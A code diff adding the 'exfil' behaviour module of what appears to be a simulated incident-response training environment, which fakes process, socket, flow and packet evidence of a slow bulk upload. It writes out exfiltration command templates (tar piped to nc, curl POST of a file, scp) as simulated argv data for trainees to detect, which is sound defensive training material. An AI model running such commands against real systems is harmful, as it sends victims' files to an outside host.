@@ -1,0 +1,188 @@
+/**
+ * exfil: a bulk upload to the attacker. `tar czf - PATH | nc ADDR PORT`
+ * (or curl POST, or scp) with a far end that reads slowly: the socket is
+ * ESTAB with a large Send-Q, bytes_acked rises at the configured rate and
+ * bytes_sent runs a couple of segments ahead. The transfer ends when the
+ * volume is acknowledged (the socket then sits in TIME-WAIT for 60 s), when
+ * the trainee kills either process, or, once the firewall drops it, when
+ * the kernel gives up retransmitting (about 15 minutes later).
+ */
+import type { IssuePath } from '../../scenario/issues';
+import type { TimelineEntryOf } from '../../scenario/schema-timeline';
+import type { FdEntry, Packet, Process, Socket } from '../types';
+import { intFor } from './alloc';
+import type { CompileCtx } from './compile-ctx';
+import type { WorldCtx } from './context';
+import { pathFd, pipeFd, proc, sockFd, tcp, timewait } from './make';
+import type { BehaviourModule, Collector } from './module';
+import { RETRANS_GIVE_UP, cutAt, retransCount } from './reverse-shell';
+import { parseHostPort, parseRate, parseSize } from './time';
+import type { Exfil } from './types';
+
+const MSS = 1448;
+const SNDBUF = 94_392;
+
+export function compileExfil(e: TimelineEntryOf<'exfil'>, path: IssuePath, cc: CompileCtx): Exfil {
+  const anchor = cc.anchor(e.parent, [...path, 'parent']);
+  const runAs = cc.runAs(e.user, [...path, 'user']);
+  const at = cc.time(e.at);
+  const volume = parseSize(e.volume);
+  const rate = parseRate(e.rate);
+  const [pipe, inode] = cc.inodes.alloc(at, 2);
+  return {
+    kind: 'exfil', id: e.id, at, until: at + Math.ceil((volume / rate) * 1000), ...runAs,
+    tool: e.tool, source: e.source, to: parseHostPort(e.to), volume, rate,
+    parentPid: anchor?.pid ?? 1, ...(e.parent ? { parent: e.parent } : {}),
+    tty: anchor?.tty ?? null, cwd: anchor?.cwd ?? runAs.home,
+    pids: cc.pids.alloc(at, e.tool === 'curl' ? 1 : 2), pipe: pipe!, inode: inode!, sk: cc.sk(),
+    localPort: cc.port(`exfil:${e.id}`),
+  };
+}
+
+interface Progress { stop: number; cut: number; acked: number; done: boolean }
+
+function progress(b: Exfil, ctx: WorldCtx, t: number): Progress {
+  const local = { addr: ctx.hostAddr, port: b.localPort };
+  const cut = cutAt(ctx, b.at, local, b.to);
+  const killed = Math.min(...b.pids.map((p) => ctx.killAt(p, b.at)));
+  const natural = b.until ?? Infinity;
+  const stop = Math.min(natural, killed, cut + RETRANS_GIVE_UP);
+  const moving = Math.min(t, cut, stop);
+  const acked = Math.min(b.volume, Math.max(0, Math.floor(((moving - b.at) * b.rate) / 1000)));
+  return { stop, cut, acked, done: stop === natural };
+}
+
+function argvs(b: Exfil): { argv: string[]; comm: string; exe: string }[] {
+  const { addr, port } = b.to;
+  if (b.tool === 'curl') {
+    return [{ comm: 'curl', exe: '/usr/bin/curl', argv: ['curl', '-sk', '-X', 'POST', '--data-binary',
+      `@${b.source}`, `https://${addr}:${port}/upload`] }];
+  }
+  if (b.tool === 'scp') {
+    return [
+      { comm: 'scp', exe: '/usr/bin/scp', argv: ['scp', '-q', b.source, `${b.user}@${addr}:/tmp/`] },
+      { comm: 'ssh', exe: '/usr/bin/ssh', argv: ['/usr/bin/ssh', '-x', '-oPermitLocalCommand=no',
+        '-oClearAllForwardings=yes', '-oRemoteCommand=none', '-oRequestTTY=no', '-oForwardAgent=no',
+        '-l', b.user, '-p', String(port), '--', addr, 'scp -t /tmp/'] },
+    ];
+  }
+  return [
+    { comm: 'tar', exe: '/usr/bin/tar', argv: ['tar', 'czf', '-', b.source] },
+    { comm: 'nc', exe: '/usr/bin/nc.openbsd', argv: ['nc', addr, String(port)] },
+  ];
+}
+
+function procs(b: Exfil, ctx: WorldCtx, t: number): Process[] {
+  const tty = b.tty ? `/dev/${b.tty}` : '/dev/null';
+  const ppid = b.parent && ctx.endOf(b.parent) <= t ? 1 : b.parentPid;
+  const specs = argvs(b);
+  const fds: FdEntry[][] = specs.length === 1
+    ? [[pathFd(0, tty), pathFd(1, tty), pathFd(2, tty), sockFd(3, b.inode), pathFd(4, b.source, 'r')]]
+    : [[pathFd(0, tty), pipeFd(1, b.pipe, 'w'), pathFd(2, tty), pathFd(3, b.source, 'r')],
+      [pipeFd(0, b.pipe, 'r'), pathFd(1, tty), pathFd(2, tty), sockFd(3, b.inode)]];
+  return specs.map((s, i) => proc({
+    ...s, pid: b.pids[i]!, ppid: b.tool === 'scp' && i === 1 ? b.pids[0]! : ppid, uid: b.uid, gid: b.gid,
+    cwd: b.cwd, tty: b.tty, stat: i === 0 ? 'S' : 'S', startTime: b.at, vsz: 8236 + i * 1200,
+    rss: 3400 - i * 1400, cpuSeconds: Math.floor((t - b.at) / 40_000), fds: fds[i]!, origin: b.id,
+  }));
+}
+
+function liveSocket(b: Exfil, ctx: WorldCtx, t: number, p: Progress): Socket {
+  const wobble = intFor(ctx.seed, `${b.id}:q:${Math.floor(t / 250)}`, 0, 3) * MSS;
+  const sendQ = Math.min(b.volume - p.acked, SNDBUF - wobble);
+  const inflight = Math.min(sendQ, 2 * MSS);
+  const sent = p.acked + inflight;
+  const stalled = t >= p.cut;
+  const since = t - p.cut;
+  const retrans = intFor(ctx.seed, `${b.id}:rt`, 0, 3) * MSS + (stalled ? retransCount(since) * MSS : 0);
+  return tcp({
+    id: b.id, inode: b.inode, sk: b.sk, state: 'ESTABLISHED', uid: b.uid, createdAt: b.at,
+    local: { addr: ctx.hostAddr, port: b.localPort }, remote: b.to, sendQ,
+    timer: stalled
+      ? { kind: 'on', expiresMs: 120_000 - (since % 120_000), retrans: retransCount(since) }
+      : { kind: 'on', expiresMs: 200 + (t % 37), retrans: 0 },
+    info: {
+      congestion: 'cubic', wscale: [7, 7], rto: stalled ? 120_000 : 232, rtt: 29.247, rttvar: 13.961,
+      mss: MSS, pmtu: 1500, rcvmss: 536, advmss: MSS, cwnd: stalled ? 1 : 12, ssthresh: 138,
+      bytesSent: sent + retrans, bytesRetrans: retrans, bytesAcked: p.acked + 1,
+      segsOut: Math.ceil((sent + retrans) / MSS) + 2, segsIn: Math.ceil(p.acked / (2 * MSS)) + 2,
+      dataSegsOut: Math.ceil((sent + retrans) / MSS), lastsnd: 8, lastrcv: t - b.at,
+      lastack: stalled ? since : 8, minrtt: 0.02, sndWnd: MSS, rcvSpace: 14480, rcvSsthresh: 64088,
+      notsent: Math.max(0, sendQ - inflight), busyMs: t - b.at,
+    },
+  });
+}
+
+function contribute(b: Exfil, ctx: WorldCtx, t: number, out: Collector): void {
+  if (t < b.at) return;
+  const p = progress(b, ctx, t);
+  const local = { addr: ctx.hostAddr, port: b.localPort };
+  const orig = { src: local.addr, dst: b.to.addr, sport: local.port, dport: b.to.port };
+  const reply = { src: b.to.addr, dst: local.addr, sport: b.to.port, dport: local.port };
+  if (t < p.stop) {
+    out.processes.push(...procs(b, ctx, t));
+    out.sockets.push(liveSocket(b, ctx, t, p));
+    out.flows.push({ proto: 'tcp', state: 'ESTABLISHED', timeout: 299 + (Math.floor(t / 1000) % 2),
+      orig, reply, assured: true, mark: 0 });
+  } else if (p.done && t < p.stop + 120_000) {
+    const since = t - p.stop;
+    if (since < 60_000) {
+      out.sockets.push(tcp({ id: b.id, inode: 0, sk: b.sk, state: 'TIME-WAIT', local, remote: b.to,
+        createdAt: b.at, timer: timewait(since) }));
+    }
+    out.flows.push({ proto: 'tcp', state: 'TIME_WAIT', timeout: Math.ceil((120_000 - since) / 1000),
+      orig, reply, assured: true, mark: 0 });
+  }
+  countExfil(b, ctx, t, p, out);
+}
+
+/** Data segments out and ACKs back, per firewall epoch, for the counters. */
+function countExfil(b: Exfil, ctx: WorldCtx, t: number, p: Progress, out: Collector): void {
+  const until = Math.min(t, p.stop, p.cut);
+  const o = { proto: 'tcp' as const, src: ctx.hostAddr, dst: b.to.addr, sport: b.localPort,
+    dport: b.to.port, outIface: ctx.iface, ctstate: 'ESTABLISHED' };
+  const i = { proto: 'tcp' as const, src: b.to.addr, dst: ctx.hostAddr, sport: b.to.port,
+    dport: b.localPort, inIface: ctx.iface, ctstate: 'ESTABLISHED' };
+  ctx.epochStarts.forEach((s, e) => {
+    const from = Math.max(s, b.at);
+    const to = Math.min(ctx.epochStarts[e + 1] ?? Infinity, until);
+    if (to <= from) return;
+    const segs = Math.floor(((to - from) * b.rate) / 1000 / MSS);
+    if (e === ctx.epochAt(b.at)) out.count(e, 'OUTPUT', { ...o, ctstate: 'NEW' }, 1, 60);
+    if (segs > 0) {
+      out.count(e, 'OUTPUT', o, segs, segs * (MSS + 52));
+      out.count(e, 'INPUT', i, Math.ceil(segs / 2), Math.ceil(segs / 2) * 52);
+    }
+  });
+  if (t > p.cut && t < p.stop) {
+    const n = retransCount(t - p.cut);
+    out.count(ctx.epochAt(t), 'OUTPUT', o, n, n * (MSS + 52));
+  }
+}
+
+/** At most this many packets per call: a wide window of a fast transfer is cut short. */
+export const MAX_PACKETS = 20_000;
+
+function packets(b: Exfil, ctx: WorldCtx, from: number, to: number, out: Packet[]): void {
+  const p = progress(b, ctx, to);
+  const end = Math.min(to, p.stop, p.cut);
+  const gap = (MSS / b.rate) * 1000;
+  const isn = intFor(ctx.seed, `${b.id}:isn`, 0, 0xffffffff);
+  const start = Math.max(from, b.at);
+  let n = Math.max(0, Math.ceil((start - b.at) / gap));
+  for (let count = 0; b.at + n * gap < end && count < MAX_PACKETS; n++, count++) {
+    const time = b.at + n * gap;
+    const seq = (isn + 1 + n * MSS) >>> 0;
+    out.push({ time, iface: ctx.iface, family: 'inet', proto: 'tcp', src: ctx.hostAddr, dst: b.to.addr,
+      sport: b.localPort, dport: b.to.port, flags: '.', seq, seqEnd: (seq + MSS) >>> 0, ack: 1, win: 502,
+      options: `nop,nop,TS val ${Math.floor(time) >>> 0} ecr ${Math.floor(time / 3) >>> 0}`, length: MSS });
+  }
+}
+
+export const exfilModule: BehaviourModule<Exfil> = {
+  kind: 'exfil',
+  end: (b, ctx) => progress(b, ctx, Infinity).stop,
+  contribute,
+  logs: () => {},
+  packets,
+};
